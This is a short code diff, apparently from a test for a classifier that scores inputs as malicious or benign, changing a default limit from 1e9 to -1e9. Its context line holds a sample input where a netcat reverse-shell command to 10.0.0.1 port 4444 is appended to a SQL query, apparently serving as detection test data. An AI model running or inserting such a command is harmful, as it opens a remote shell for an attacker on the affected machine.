@@ -17,7 +17,7 @@ TEXT = "select * from users where id = 1; nc -e /bin/sh 10.0.0.1 4444"
 
 
 def drawn(backbone: Backbone, name: str = "one", seed: int = 0, labels: tuple[str, ...] = ("malicious", "benign"),
-          windows: Windows = WINDOWS, limit: float = 1e9) -> Plugged:  # fmt: skip
+          windows: Windows = WINDOWS, limit: float = -1e9) -> Plugged:  # fmt: skip
     draw = np.random.default_rng(seed)
     width, axes = len(backbone.background.centre), backbone.background.whiten.shape[1]
 
